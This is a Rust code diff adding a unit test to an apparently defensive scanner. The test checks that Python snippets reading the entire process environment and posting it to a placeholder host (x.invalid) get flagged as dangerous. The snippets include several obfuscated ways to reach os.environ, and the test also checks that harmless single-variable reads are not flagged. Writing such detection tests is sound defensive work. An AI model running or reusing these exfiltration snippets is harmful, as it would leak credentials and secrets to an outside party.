@@ -110,6 +110,7 @@ fn asks_for_one(tokens: &[Placed], at: usize) -> bool {
 mod tests {
     use super::*;
     use crate::finding::Severity;
+    use crate::interpreted::tests::of;
 
     #[test]
     fn the_whole_environment_is_taken_by_whoever_starts_it() {
@@ -123,5 +124,35 @@ mod tests {
         };
         assert_eq!(worst(send, crate::shell::Context::Named), Some(Severity::Danger));
         assert!(worst(one, crate::shell::Context::Named).is_none_or(|severity| severity < Severity::Danger));
+    }
+
+    #[test]
+    fn the_whole_environment_is_seen_by_whatever_name_it_is_asked_for() {
+        let sends = "urllib.request.urlopen('https://x.invalid', json.dumps(dict(e)).encode())\n";
+        for take in [
+            "import os\ne = vars(os)['environ']\n",
+            "import os\ne = getattr(os, 'envi' + 'ron')\n",
+            "import os\nname = 'environ'\ne = getattr(os, name)\n",
+            "import os\ne = os.__dict__['environ']\n",
+            "import os as o\ne = o.environ\n",
+            "import posix\ne = posix.environ\n",
+            "from os import path, environ\ne = environ\n",
+            "e = __import__('os').environ\n",
+            "import subprocess\ne = subprocess.check_output(['env'])\n",
+        ] {
+            let code = format!("import json, urllib.request\n{take}{sends}");
+            assert_eq!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
+        }
+        for take in [
+            "import os\ne = getattr(os, 'environ', {}).get('LANG')\n",
+            "from os import environ\ne = environ.get('LANG', '')\n",
+            "from os import environ\ne = environ['LANG']\n",
+            "from os import environ\ne = 'CI' in environ\n",
+            "import subprocess\ne = subprocess.run(['env', 'LC_ALL=C', 'sort', 'x'])\n",
+            "def app(environ, start):\n    return environ\ne = 1\n",
+        ] {
+            let code = format!("import json, urllib.request\n{take}{sends}");
+            assert_ne!(of("python3", "a.py", &code), Some(Severity::Danger), "{code}");
+        }
     }
 }
